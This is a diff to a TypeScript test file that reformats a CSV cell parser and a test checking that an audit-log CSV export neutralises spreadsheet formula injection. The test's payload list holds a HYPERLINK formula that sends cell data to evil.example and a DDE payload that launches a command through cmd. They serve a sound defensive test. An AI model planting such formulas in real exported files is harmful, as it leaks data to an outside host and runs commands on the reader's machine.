@@ -18,8 +18,7 @@ function cells(line: string): string[] {
     else if (ch === ",") {
       out.push(cur);
       cur = "";
-    }
-    else cur += ch;
+    } else cur += ch;
   }
   out.push(cur);
   return out;
@@ -36,9 +35,19 @@ describe("audit export: CSV injection", () => {
 
   it("neutralises cells a spreadsheet would run as formulas", async () => {
     // Values that reached the trail from outside (a Postmark error text, a target, a note).
-    const payloads = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tsecret", "\r=1"];
+    const payloads = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1,2)",
+      "\tsecret",
+      "\r=1",
+    ];
     for (const p of payloads) {
-      await h.store.audit.record({ actor: "system", action: "test.csv", target: p, outcomeDetail: p, detail: p }, new Date(h.clock()).toISOString());
+      await h.store.audit.record(
+        { actor: "system", action: "test.csv", target: p, outcomeDetail: p, detail: p },
+        new Date(h.clock()).toISOString(),
+      );
     }
     const res = await h.request("/api/audit/export?format=csv&action=test.csv", { cookie: admin });
     expect(res.status).toBe(200);
